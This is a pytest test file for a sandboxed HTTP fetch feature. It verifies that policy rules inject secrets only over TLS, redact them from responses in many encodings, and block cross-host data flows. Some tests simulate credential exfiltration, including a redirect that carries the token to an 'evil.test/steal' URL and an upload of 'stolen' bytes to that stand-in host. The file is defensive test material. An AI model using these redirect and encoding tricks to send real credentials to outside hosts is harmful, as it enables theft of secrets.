"""Secrets that a rule puts on: where they go, and that they do not come back."""

import asyncio
import base64
import json
import zlib
from urllib.parse import quote

import pytest

from tests.capabilities.fetch.conftest import Bench
from tests.capabilities.fetch.targets import Seen, Writer, redirect, reply

TOKEN = 'tok/en+with spaces&"quotes"-0123456789'
SECRETS = {"token": TOKEN.encode(), "user": b"robot", "password": b"pa$$word:with-colon", "short": b"abc"}
BASE = "https://secure.test:{tls}"


def rule(request: str, more: str = "") -> str:
    return (
        "grants: {fetch: [{name: keyed, hosts: [secure.test], ports: any, methods: any, addresses: [127.0.0.0/8], "
        f"request: {{{request}}}}}{more}]}}"
    )


HEADER = rule('set_headers: {authorization: "Bearer ${secret:token}"}')
QUERY = rule('set_query: {key: "${secret:token}"}')
BASIC = rule('basic_auth: {username: "${secret:user}", password: "${secret:password}"}')


@pytest.fixture
def keyed(bench: Bench):
    """Requests with secrets."""

    async def run(path: str, *arguments: object, policy: str, base: str = BASE, **options: object):
        execution = bench.execution(policy, secrets=SECRETS.get)
        try:
            return await execution.request(bench.fill(base + path), *arguments, **options)
        finally:
            execution.close()

    return lambda *arguments, **options: bench.run(run(*arguments, **options))


def test_a_header_is_put_on(bench: Bench, keyed) -> None:
    """In place of the guest's own, however that is spelled."""
    for name in ("Authorization", "authorization", "AUTHORIZATION"):
        keyed("/x", "GET", {name: "mine"}, policy=HEADER)
    assert [seen.values("authorization") for seen in bench.tls.seen] == [[f"Bearer {TOKEN}"]] * 3
    policy = rule('set_headers: {x-api-key: "${secret:token}"}')
    keyed("/x", "GET", [("X_API_KEY", "mine"), ("x-api-key", "mine")], policy=policy)
    assert bench.tls.seen[-1].values("x-api-key") == [TOKEN]
    assert bench.tls.seen[-1].values("x_api_key") == []


@pytest.mark.parametrize("query", ["", "?a=b", "?key=mine", "?key=1&a=b&key=2", "?%6bey=mine&a=b", "?key", "?a=b&"])
def test_a_query_parameter_is_put_on(bench: Bench, keyed, query: str) -> None:
    """The guest's own of that name is gone, and the URL of the response is without it."""
    got = keyed(f"/x{query}", policy=QUERY)
    target = bench.tls.seen[0].target
    expected = f"key={quote(TOKEN, safe='')}"
    assert target == (f"/x?a=b&{expected}" if "a=b" in query else f"/x?{expected}")
    assert got.url == bench.fill(f"{BASE}/x{query}")


def test_basic_authentication_is_put_on(bench: Bench, keyed) -> None:
    """RFC 7617."""
    keyed("/x", "GET", {"authorization": "mine"}, policy=BASIC)
    (value,) = bench.tls.seen[0].values("authorization")
    assert base64.b64decode(value.removeprefix("Basic ")) == b"robot:pa$$word:with-colon"


@pytest.mark.parametrize("policy", [HEADER, QUERY, BASIC], ids=["header", "query", "basic"])
def test_without_tls_nothing_secret_is_put_on(bench: Bench, keyed, policy: str) -> None:
    """Unless the rule says so."""
    http = policy.replace("hosts: [secure.test]", "hosts: [api.test], schemes: [http]")
    keyed("/x", policy=http, base="http://api.test:{port}")
    assert b"tok" not in bench.plain.seen[0].raw
    assert b"authorization" not in bench.plain.seen[0].raw
    keyed("/x", policy=http.replace("request: {", "request: {secrets_over_http: true, "), base="http://api.test:{port}")
    assert b"uthorization" in bench.plain.seen[1].raw or b"key=tok" in bench.plain.seen[1].raw


def test_a_request_that_is_denied_asks_for_no_secret(bench: Bench) -> None:
    """They are put on after the decision, and after the address was judged."""
    asked = []

    async def run() -> list[str]:
        execution = bench.execution(
            HEADER.replace("127.0.0.0/8", "10.0.0.0/8"), secrets=lambda name: asked.append(name)
        )
        asked.clear()
        verdicts = [(await execution.request(bench.fill(url))).verdict for url in (BASE, "https://evil.test:{tls}")]
        execution.close()
        return verdicts

    # One look at the start of the execution's requests, for what is to be scrubbed.
    assert bench.run(run()) == ["refused", "refused"]
    assert asked == ["token"]


def test_a_secret_that_is_missing_or_no_text(bench: Bench) -> None:
    """The request is refused, with the secret's name alone."""

    async def run(value: bytes | None) -> str:
        execution = bench.execution(HEADER, secrets=lambda name: value)
        got = await execution.request(bench.fill(BASE))
        execution.close()
        return got.refused or ""

    for value in (None, b"a\r\nx: y", b"\xff\xfe", b"", b"a\0b"):
        refused = bench.run(run(value))
        assert "`token`" in refused
    assert bench.tls.lines == []


#: Spellings in which a server might give a secret back.
SPELLINGS = {
    "as it is": TOKEN.encode(),
    "URL-encoded": quote(TOKEN, safe="").encode(),
    "URL-encoded in small letters": quote(TOKEN, safe="").lower().encode(),
    "as a form": quote(TOKEN, safe="").replace("%20", "+").encode(),
    "as JSON": json.dumps({"x": TOKEN}).encode(),
    "as JSON with escaped slashes": json.dumps(TOKEN).replace("/", "\\/").encode(),
    "as HTML": b"<p>" + TOKEN.replace("&", "&amp;").replace('"', "&quot;").encode() + b"</p>",
    "hexadecimal": TOKEN.encode().hex().encode(),
    "hexadecimal in capitals": TOKEN.encode().hex().upper().encode(),
    "base64": base64.b64encode(TOKEN.encode()),
    "base64 for URLs": base64.urlsafe_b64encode(TOKEN.encode()),
    "base64 behind one byte": base64.b64encode(b"x" + TOKEN.encode() + b"yy"),
    "base64 behind two bytes": base64.b64encode(b"xy" + TOKEN.encode() + b"y"),
    "base64 as credentials": base64.b64encode(b"robot:" + TOKEN.encode()),
    "several times": TOKEN.encode() * 3,
}
#: What must not be found in what a guest gets: the middle of each spelling.
TRACES = (TOKEN[2:-2].encode(), TOKEN[6:16].encode(), b"0123456789")


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_secret_does_not_come_back_in_a_body(bench: Bench, keyed, spelling: str) -> None:
    """Nor in pieces of any size, nor compressed; what stands around it stays, and so does the length."""
    body = b"before " + SPELLINGS[spelling] + b" after"

    async def in_bytes(seen: Seen, writer: Writer) -> bytes:
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body))
        for at in range(0, len(body), 3):
            writer.write(body[at : at + 3])
            await asyncio.sleep(0)
        return b""

    bench.tls.answers("/whole", reply(body))
    bench.tls.answers("/pieces", in_bytes)
    bench.tls.answers("/deflated", reply(zlib.compress(body), content_encoding="deflate"))
    for path in ("/whole", "/pieces", "/deflated"):
        got = keyed(path, policy=HEADER, raw=path == "/deflated")
        assert got.body.startswith(b"before ")
        assert got.body.endswith(b" after")
        assert len(got.body) == len(body)
        assert b"****" in got.body
        for trace in TRACES:
            for shape in (trace, trace.hex().encode(), base64.b64encode(trace)[2:-4]):
                assert shape not in got.body


def test_what_only_looks_like_the_beginning_of_a_secret_is_not_lost(bench: Bench, keyed) -> None:
    """It is held back until it is clear, and no longer: an event of a stream comes when it is sent."""
    go_on = asyncio.Event()

    async def parts(seen: Seen, writer: Writer) -> bytes:
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 20\r\n\r\ndata: 1\n\ntok/en+w")
        await go_on.wait()
        return b"hat"

    async def read() -> list[bytes]:
        execution = bench.execution(HEADER, secrets=SECRETS.get)
        id, answer = execution.begin(bench.fill(f"{BASE}/events"))
        pieces = [(await answer)[8:].rpartition(b"20")[2]]
        if not pieces[0]:
            pieces.append((await execution.read(id))[1])
        go_on.set()
        pieces.append((await execution.read(id, 100, fill=True))[1])
        execution.close()
        return pieces

    bench.tls.answers("/events", parts)
    pieces = bench.run(read())
    assert b"".join(pieces[:-1]) == b"data: 1\n\n"
    assert pieces[-1] == b"tok/en+what"


def test_a_secret_does_not_come_back_beside_a_body(bench: Bench, keyed) -> None:
    """In a header, the reason, a redirect's Location, the URL, or the message of a failure."""
    bench.tls.answers(
        "/header",
        reply(b"", f"200 OK {TOKEN}", x_echo=f"Bearer {TOKEN}", x_b64=base64.b64encode(TOKEN.encode()).decode()),
    )
    got = keyed("/header", policy=HEADER)
    assert TOKEN not in got.reason + repr(got.headers)
    assert len(got.header("x-echo")) == len(TOKEN) + 7
    bench.tls.answers("/turn", redirect(f"/there?seen={quote(TOKEN, safe='')}"))
    for mode in ("follow", "manual"):
        got = keyed("/turn", policy=HEADER, redirect=mode)
        assert "0123456789" not in got.url + repr(got.headers)
    bench.tls.answers("/out", redirect(f"https://{TOKEN[-10:]}.evil.test/"))
    got = keyed("/out", policy=HEADER)
    assert got.refused is not None


def test_a_secret_of_another_rule_does_not_come_back_either(bench: Bench, keyed) -> None:
    """A request without it may tell what an earlier one brought."""
    more = ", {name: open, hosts: [api.test], schemes: [http], ports: any, addresses: [127.0.0.0/8]}"
    policy = rule('set_headers: {authorization: "Bearer ${secret:token}"}', more)
    bench.plain.answers("/log", reply(f"last: Bearer {TOKEN}".encode()))
    got = keyed("/log", policy=policy, base="http://api.test:{port}")
    assert TOKEN.encode() not in got.body


def test_a_secret_does_not_follow_to_another_origin(bench: Bench, keyed) -> None:
    """The next host gets what its own rule puts on, and that is nothing."""
    more = ", {name: open, hosts: [evil.test], schemes: any, ports: any, addresses: [127.0.0.0/8]}"
    for request in ('set_headers: {authorization: "Bearer ${secret:token}"}', 'set_query: {key: "${secret:token}"}'):
        bench.reset()
        echo = redirect(bench.fill("http://evil.test:{port}/steal?q=") + quote(TOKEN, safe=""))
        bench.tls.answers("/turn", echo)
        keyed("/turn", policy=rule(request, more))
        (stolen,) = bench.plain.seen
        assert b"0123456789" not in stolen.raw
        assert stolen.values("authorization") == []


def test_a_body_that_cannot_be_searched_is_not_handed_over(bench: Bench, keyed) -> None:
    """An encoding that the host does not know could hide the secret; the guest has no say in encodings here."""
    bench.tls.answers("/odd", reply(b"x", content_encoding="compress"))
    assert keyed("/odd", policy=HEADER).failure[0] == "ERR_CONTENT_ENCODING"
    keyed("/x", "GET", {"accept-encoding": "compress"}, policy=HEADER)
    assert bench.tls.seen[-1].values("accept-encoding") == ["gzip, deflate, br, zstd"]


FLOWS = (
    "grants: {fetch: [{name: crm-read, hosts: [api.test], schemes: [http], ports: any, addresses: [127.0.0.0/8]}, "
    "{name: crm-write, hosts: [api.test], schemes: [http], ports: any, methods: [POST], addresses: [127.0.0.0/8]}, "
    "{name: mail, hosts: [evil.test], schemes: [http], ports: any, methods: any, addresses: [127.0.0.0/8]}]}\n"
    "flows: {after: crm-read, only: [crm-*]}"
)
CRM, MAIL = "http://api.test:{port}/", "http://evil.test:{other}/"


def test_after_a_response_only_what_its_flow_names(bench: Bench) -> None:
    """Before it anything that is granted, and afterwards nothing else, whichever way."""

    async def run() -> list[str]:
        execution = bench.execution(FLOWS)
        asked = (
            (MAIL, "POST"),
            (CRM, "POST"),
            (MAIL, "GET"),
            (CRM, "GET"),
            (MAIL, "POST"),
            (MAIL, "GET"),
            (CRM, "POST"),
        )
        verdicts = [(await execution.request(bench.fill(url), method)).verdict for url, method in asked]
        execution.close()
        assert execution.decided[-2].decision.rule.name == "flows"
        return verdicts

    assert bench.run(run()) == ["200", "200", "200", "200", "refused", "refused", "200"]
    assert len(bench.other.seen) == 2


def test_a_flow_holds_for_what_is_under_way(bench: Bench) -> None:
    """An upload that began before ends when the response is read: no byte of that goes with it."""

    async def run() -> tuple[str, bool]:
        execution = bench.execution(FLOWS)
        id, answer = execution.begin(bench.fill(MAIL), "POST", stream=True)
        assert await execution.write(id, b"before")
        await asyncio.sleep(0.02)
        assert (await execution.request(bench.fill(CRM))).verdict == "200"
        more = await execution.write(id, b"stolen", last=True)
        verdict = (await execution.finish(id, answer)).verdict
        execution.close()
        return verdict, more

    assert bench.run(run()) == ("refused", False)
    assert bench.other.seen == []


def test_a_flow_holds_for_what_waits_for_a_connection(bench: Bench) -> None:
    """Which of many waiting requests are given up could tell what was read: none of them is sent."""
    go_on = asyncio.Event()

    async def hangs(seen: Seen, writer: Writer) -> bytes:
        await go_on.wait()
        return reply()

    async def run() -> list[str]:
        execution = bench.execution(FLOWS.replace("methods: any", "max_connections: 1"))
        waiting = [execution.begin(bench.fill(f"{MAIL}{number}")) for number in range(4)]
        await asyncio.sleep(0.02)
        await execution.request(bench.fill(CRM))
        execution.abort(waiting[2][0])
        go_on.set()
        verdicts = [(await execution.finish(*each)).verdict for each in waiting]
        execution.close()
        return verdicts

    bench.other.answers("*", hangs)
    assert bench.run(run()) == ["200", "refused", "ABORT_ERR", "refused"]
    assert bench.other.lines == ["GET /0"]


def test_a_flow_holds_for_a_redirect_and_a_waiting_name(bench: Bench) -> None:
    """A hop that comes later is a request that comes later; so is one whose name is still being looked up."""
    go_on = asyncio.Event()

    async def turns(seen: Seen, writer: Writer) -> bytes:
        await go_on.wait()
        return redirect("/there")

    async def run() -> str:
        execution = bench.execution(FLOWS)
        id, answer = execution.begin(bench.fill(MAIL))
        await asyncio.sleep(0.02)
        await execution.request(bench.fill(CRM))
        go_on.set()
        verdict = (await execution.finish(id, answer)).verdict
        execution.close()
        return verdict

    bench.other.answers("/", turns)
    assert bench.run(run()) == "refused"
    assert bench.other.lines == ["GET /"]
